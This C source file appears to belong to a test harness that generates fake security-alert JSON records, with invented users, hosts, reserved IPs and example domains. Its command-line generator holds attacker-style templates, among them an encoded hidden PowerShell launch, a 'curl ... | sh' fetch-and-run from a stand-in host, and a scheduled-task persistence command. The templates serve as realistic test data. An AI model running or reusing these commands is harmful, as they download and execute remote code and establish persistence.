/* SPDX-License-Identifier: Apache-2.0 */
#include "tests/fake_graph/json_out.h"
#include "tests/fake_graph/maker.h"

#include "lib/base/ticks.h"

static const char *const first_names[] = { "Ana", "Björn", "Chloé", "Dmitri", "Elif", "Fatima",
	"Grzegorz", "Hiroshi", "Ingrid", "João", "Katarína", "Li", "Mónica", "Nguyễn", "Oğuz",
	"Priya", "Quentin", "Ruth", "Søren", "Tariq", "Uma", "Věra", "Wanjiru", "Zoë" };
static const char *const logins[] = { "ana", "bjorn", "chloe", "dmitri", "elif", "fatima",
	"grzegorz", "hiroshi", "ingrid", "joao", "katarina", "li", "monica", "nguyen", "oguz",
	"priya", "quentin", "ruth", "soren", "tariq", "uma", "vera", "wanjiru", "zoe" };
static const char *const last_names[] = { "Abe", "Bauer", "Costa", "Dubois", "Evans", "Fischer",
	"García", "Haddad", "Ivanova", "Jensen", "Kowalski", "Łukasik", "Müller", "Nakamura",
	"O'Brien", "Petrov" };
static const char *const host_kinds[] = { "pc", "lt", "srv-app", "srv-sql", "dc", "vdi", "web",
	"build" };
static const char *const files[] = { "powershell.exe", "cmd.exe", "rundll32.exe",
	"invoice_0421.docm", "update.exe", "mimi.exe", "svchost.exe", "regsvr32.exe", "payload.dll",
	"Angebot (2).pdf.exe", "wscript.exe", "setup-x64.msi", "run.sh", "libcurl.so.4",
	"отчёт.xlsx", "請求書.js" };
static const char *const dirs[] = { "C:\\Windows\\System32",
	"C:\\Windows\\System32\\WindowsPowerShell\\v1.0", "C:\\Users\\Public\\Downloads",
	"C:\\Program Files (x86)\\Contoso\\Agent", "/usr/local/bin", "/tmp/.x",
	"C:\\ProgramData\\Package Cache", "\\\\fs01\\share$\\transfer" };
static const char *const publishers[] = { "Microsoft Corporation", "Contoso Ltd", "Fabrikam, Inc.",
	"NAKANO K.K." };
static const char *const foreign[] = { "login-portal.example", "cdn.files-transfer.example",
	"mail.paypa1.example", "xn--bcher-kva.example", "update.software-center.test",
	"c2.badactor.invalid" };
static const char *const words[] = { "account", "activity", "anomalous", "attempt", "behaviour",
	"command", "connection", "credential", "device", "discovered", "download", "encoded",
	"endpoint", "evidence", "executed", "file", "from", "group", "known", "lateral",
	"malicious", "movement", "network", "observed", "on", "policy", "process", "remote",
	"script", "service", "sign-in", "suspicious", "the", "user", "was", "with" };
static const char *const agents[] = {
	("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
	 "Chrome/126.0 Safari/537.36"),
	"python-requests/2.31.0",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) Gecko/20100101 Firefox/128.0"
};

#define PICK(m, list) ((list)[rng_below(&(m)->rng, ARRAY_LEN(list))])
/* One of the alert's own few: the same list entry wherever the alert speaks of it. */
#define CAST(m, list, n) ((list)[((m)->cast >> (n)) % ARRAY_LEN(list)])

void
make_fields(struct maker *m, const struct field *fields)
{
	for (const struct field *f = fields; f->name != NULL; f++) {
		j_key(m->b, f->name);
		if (rng_percent(&m->rng, m->null_percent))
			buf_puts(m->b, "null");
		else
			f->make(m, f->arg);
	}
}

void
make_object(struct maker *m, const void *arg)
{
	buf_byte(m->b, '{');
	make_fields(m, arg);
	buf_byte(m->b, '}');
}

static void
quoted(struct maker *m, const char *s)
{
	j_text(m->b, str_of(s));
}

static const char *
choose(struct maker *m, const char *const *list)
{
	size_t n = 0, bar, at;

	while (list[n] != NULL)
		n++;
	for (bar = 0; bar < n && list[bar][0] != '|'; bar++)
		;
	at = rng_below(&m->rng, (uint32_t)(bar < n ? n - 1 : n));
	if (at < bar)
		return list[at];
	return m->has_newer_enums ? list[at + 1] : "unknownFutureValue";
}

void
make_word(struct maker *m, const void *arg)
{
	quoted(m, choose(m, arg));
}

void
make_words(struct maker *m, const void *arg)
{
	unsigned n = rng_below(&m->rng, 3);

	buf_byte(m->b, '[');
	for (unsigned i = 0; i < n; i++) {
		j_comma(m->b);
		quoted(m, choose(m, arg));
	}
	buf_byte(m->b, ']');
}

void
make_null(struct maker *m, const void *arg)
{
	(void)arg;
	buf_puts(m->b, "null");
}

void
make_empty_list(struct maker *m, const void *arg)
{
	(void)arg;
	buf_puts(m->b, "[]");
}

void
make_true_false(struct maker *m, const void *arg)
{
	(void)arg;
	buf_puts(m->b, rng_percent(&m->rng, 50) ? "true" : "false");
}

/* What hashes and GUIDs are made of. */
static struct rng
digits_of(struct maker *m)
{
	uint64_t r = rng_next(&m->rng);

	return (struct rng){ rng_mix(m->variety != 0 ? r % m->variety : r) };
}

void
make_guid(struct maker *m, const void *arg)
{
	struct rng r = digits_of(m);
	uint64_t a = rng_next(&r), b = rng_next(&r);

	(void)arg;
	buf_printf(m->b, "\"%08x-%04x-4%03x-8%03x-%012llx\"", (unsigned)(a >> 32),
	    (unsigned)(a >> 16) & 0xffff, (unsigned)a & 0xfff, (unsigned)(b >> 48) & 0xfff,
	    (unsigned long long)b & 0xffffffffffffULL);
}

void
make_small(struct maker *m, const void *arg)
{
	(void)arg;
	buf_int(m->b, rng_below(&m->rng, 300));
}

void
make_int32(struct maker *m, const void *arg)
{
	(void)arg;
	buf_int(m->b, rng_below(&m->rng, 200000));
}

void
make_int64(struct maker *m, const void *arg)
{
	(void)arg;
	buf_int(m->b, (int64_t)(rng_next(&m->rng) >> (1 + rng_below(&m->rng, 50))));
}

void
make_port(struct maker *m, const void *arg)
{
	static const int ports[] = { 22, 53, 80, 443, 445, 3389, 8080, 49731 };

	(void)arg;
	buf_int(m->b, PICK(m, ports));
}

static void
hex(struct maker *m, unsigned n)
{
	static const char digit[] = "0123456789abcdef";
	struct rng r = digits_of(m);
	char text[64];
	uint64_t bits = 0;

	for (unsigned i = 0; i < n; i++) {
		if (i % 16 == 0)
			bits = rng_next(&r);
		text[i] = digit[bits & 15];
		bits >>= 4;
	}
	buf_byte(m->b, '"');
	buf_add(m->b, text, n);
	buf_byte(m->b, '"');
}

void
make_hex32(struct maker *m, const void *arg)
{
	(void)arg;
	hex(m, 32);
}

void
make_hex40(struct maker *m, const void *arg)
{
	(void)arg;
	hex(m, 40);
}

void
make_hex64(struct maker *m, const void *arg)
{
	(void)arg;
	hex(m, 64);
}

void
make_digits(struct maker *m, const void *arg)
{
	(void)arg;
	buf_printf(m->b, "\"%u\"", rng_below(&m->rng, 4000000000U));
}

void
make_mac(struct maker *m, const void *arg)
{
	uint64_t r = rng_next(&m->rng);

	(void)arg;
	buf_printf(m->b, "\"02:%02x:%02x:%02x:%02x:%02x\"", (unsigned)(r & 255),
	    (unsigned)(r >> 8 & 255), (unsigned)(r >> 16 & 255), (unsigned)(r >> 24 & 255),
	    (unsigned)(r >> 32 & 255));
}

void
make_base64(struct maker *m, const void *arg)
{
	static const char digit[] =
	    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

	(void)arg;
	buf_byte(m->b, '"');
	for (unsigned i = 0; i < 43; i++)
		buf_byte(m->b, digit[rng_below(&m->rng, 64)]);
	buf_puts(m->b, "=\"");
}

void
put_stamp(struct buf *b, int64_t ticks, bool is_trimmed)
{
	unsigned digits = 7;

	for (int64_t f = ticks % TICKS_SEC; is_trimmed && digits > 0 && f % 10 == 0; f /= 10)
		digits--;
	buf_byte(b, '"');
	ticks_write(b, ticks, digits);
	buf_byte(b, '"');
}

void
make_stamp(struct maker *m, const void *arg)
{
	static const int64_t grain[] = { 1, 10, TICKS_MS, 10 * TICKS_MS, TICKS_SEC };
	int64_t t = m->when - (int64_t)rng_below(&m->rng, 3600) * TICKS_SEC -
	            rng_below(&m->rng, (uint32_t)TICKS_SEC);

	(void)arg;
	put_stamp(m->b, t - t % PICK(m, grain), !rng_percent(&m->rng, 5));
}

void
make_ip(struct maker *m, const void *arg)
{
	static const char *const nets[] = { "203.0.113", "198.51.100", "192.0.2" };

	if (rng_percent(&m->rng, 15)) {
		make_ipv6(m, arg);
		return;
	}
	buf_printf(m->b, "\"%s.%u\"", PICK(m, nets), rng_below(&m->rng, 256));
}

void
make_ipv6(struct maker *m, const void *arg)
{
	(void)arg;
	buf_printf(
	    m->b, "\"2001:db8::%x:%x\"", rng_below(&m->rng, 65536), rng_below(&m->rng, 65536));
}

void
make_private_ip(struct maker *m, const void *arg)
{
	(void)arg;
	buf_printf(m->b, "\"10.%u.%u.%u\"", (unsigned)(m->cast & 63),
	    (unsigned)(m->cast >> 8 & 255), rng_below(&m->rng, 256));
}

void
make_ips(struct maker *m, const void *arg)
{
	unsigned n = rng_below(&m->rng, 4);

	buf_byte(m->b, '[');
	for (unsigned i = 0; i < n; i++) {
		j_comma(m->b);
		make_private_ip(m, arg);
	}
	j_comma(m->b);
	buf_puts(m->b, "\"fe80::1\",\"127.0.0.1\"]");
}

void
make_user(struct maker *m, const void *arg)
{
	(void)arg;
	quoted(m, CAST(m, logins, 3));
}

void
make_upn(struct maker *m, const void *arg)
{
	(void)arg;
	buf_printf(m->b, "\"%s@%s.example\"", CAST(m, logins, 3), m->org);
}

void
make_display_name(struct maker *m, const void *arg)
{
	(void)arg;
	buf_printf(m->b, "\"%s %s\"", CAST(m, first_names, 3), CAST(m, last_names, 9));
}

void
make_sid(struct maker *m, const void *arg)
{
	(void)arg;
	buf_printf(m->b, "\"S-1-5-21-%u-%u-%u-%u\"", (unsigned)(m->cast >> 32),
	    (unsigned)(m->cast & 0xffffffff), 1004336348U, 1000 + (unsigned)(m->cast % 9000));
}

void
make_domain(struct maker *m, const void *arg)
{
	(void)arg;
	buf_printf(m->b, "\"corp.%s.example\"", m->org);
}

void
make_org_domain(struct maker *m, const void *arg)
{
	(void)arg;
	buf_printf(m->b, "\"%s.example\"", m->org);
}

void
make_netbios(struct maker *m, const void *arg)
{
	(void)arg;
	buf_puts(m->b, "\"CORP\"");
}

void
make_host(struct maker *m, const void *arg)
{
	(void)arg;
	buf_printf(m->b, "\"%s%u\"", CAST(m, host_kinds, 17), (unsigned)(m->cast >> 24 & 255));
}

void
make_dns_name(struct maker *m, const void *arg)
{
	(void)arg;
	buf_printf(m->b, "\"%s%u.corp.%s.example\"", CAST(m, host_kinds, 17),
	    (unsigned)(m->cast >> 24 & 255), m->org);
}

void
make_foreign_domain(struct maker *m, const void *arg)
{
	(void)arg;
	quoted(m, PICK(m, foreign));
}

void
make_foreign_mail(struct maker *m, const void *arg)
{
	(void)arg;
	buf_printf(m->b, "\"%s@%s\"", PICK(m, words), PICK(m, foreign));
}

void
make_url(struct maker *m, const void *arg)
{
	(void)arg;
	buf_printf(m->b, "\"https://%s/%s/%s?id=%u&next=%%2F%s\"", PICK(m, foreign), PICK(m, words),
	    PICK(m, words), rng_below(&m->rng, 100000), PICK(m, words));
}

void
make_urls(struct maker *m, const void *arg)
{
	unsigned n = rng_below(&m->rng, 4);

	buf_byte(m->b, '[');
	for (unsigned i = 0; i < n; i++) {
		j_comma(m->b);
		make_url(m, arg);
	}
	buf_byte(m->b, ']');
}

void
make_file_name(struct maker *m, const void *arg)
{
	(void)arg;
	quoted(m, PICK(m, files));
}

void
make_dir(struct maker *m, const void *arg)
{
	(void)arg;
	quoted(m, PICK(m, dirs));
}

void
make_publisher(struct maker *m, const void *arg)
{
	(void)arg;
	quoted(m, PICK(m, publishers));
}

void
make_command_line(struct maker *m, const void *arg)
{
	static const char *const lines[] = {
		"powershell.exe -NoP -W Hidden -enc \\\"%s\\\"",
		"\\\"cmd.exe\\\" /c whoami /all > C:\\\\Users\\\\Public\\\\%s.txt & type nul",
		"rundll32.exe C:\\\\ProgramData\\\\%s.dll,Start -p a=b|c",
		"/bin/sh -c 'curl -fsSL https://cdn.files-transfer.example/%s | sh'",
		"schtasks /create /sc minute /mo 5 /tn \\\"%s\\\" /tr calc.exe",
	};
	static const char digit[] =
	    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	unsigned n = 8 + rng_below(&m->rng, rng_percent(&m->rng, 10) ? 400 : 24);
	const char *line = PICK(m, lines), *hole = strstr(line, "%s");

	(void)arg;
	buf_byte(m->b, '"');
	buf_add(m->b, line, (size_t)(hole - line));
	for (unsigned i = 0; i < n; i++)
		buf_byte(m->b, digit[rng_below(&m->rng, 64)]);
	buf_puts(m->b, hole + 2);
	buf_byte(m->b, '"');
}

void
make_registry_key(struct maker *m, const void *arg)
{
	(void)arg;
	buf_printf(m->b, "\"SOFTWARE\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\%s\"",
	    PICK(m, words));
}

void
make_text(struct maker *m, const void *arg)
{
	unsigned n = 4 + rng_below(&m->rng, 30);

	(void)arg;
	buf_byte(m->b, '"');
	for (unsigned i = 0; i < n; i++) {
		buf_puts(m->b, i != 0 ? " " : "");
		buf_puts(m->b, PICK(m, words));
	}
	buf_puts(m->b, ".\"");
}

void
make_subject(struct maker *m, const void *arg)
{
	static const char *const subjects[] = { "RE: Rechnung Nr. 4711 – bitte prüfen",
		"Your mailbox is full", "[EXT] Action required: sign in", "Fwd: お見積もりの件",
		"Invoice = 12|99 \\ overdue" };

	(void)arg;
	quoted(m, PICK(m, subjects));
}

void
make_user_agent(struct maker *m, const void *arg)
{
	(void)arg;
	quoted(m, PICK(m, agents));
}

void
make_resource_id(struct maker *m, const void *arg)
{
	(void)arg;
	buf_puts(m->b, "\"/subscriptions/");
	buf_printf(m->b,
	    "%08x-0000-4000-8000-%012x/resourceGroups/rg-%s/providers/"
	    "Microsoft.Compute/virtualMachines/%s%u\"",
	    (unsigned)(m->cast >> 32), (unsigned)m->cast, PICK(m, words), CAST(m, host_kinds, 17),
	    (unsigned)(m->cast >> 24 & 255));
}

void
make_labels(struct maker *m, const void *arg)
{
	(void)arg;
	buf_printf(m->b,
	    "{\"app\":\"%s\",\"pod-template-hash\":\"%x\",\"app.kubernetes.io/name\":\"%s\"}",
	    PICK(m, words), rng_below(&m->rng, 1u << 30), PICK(m, words));
}

void
make_latitude(struct maker *m, const void *arg)
{
	(void)arg;
	buf_printf(m->b, "%d.%05u", (int)rng_below(&m->rng, 160) - 80, rng_below(&m->rng, 100000));
}
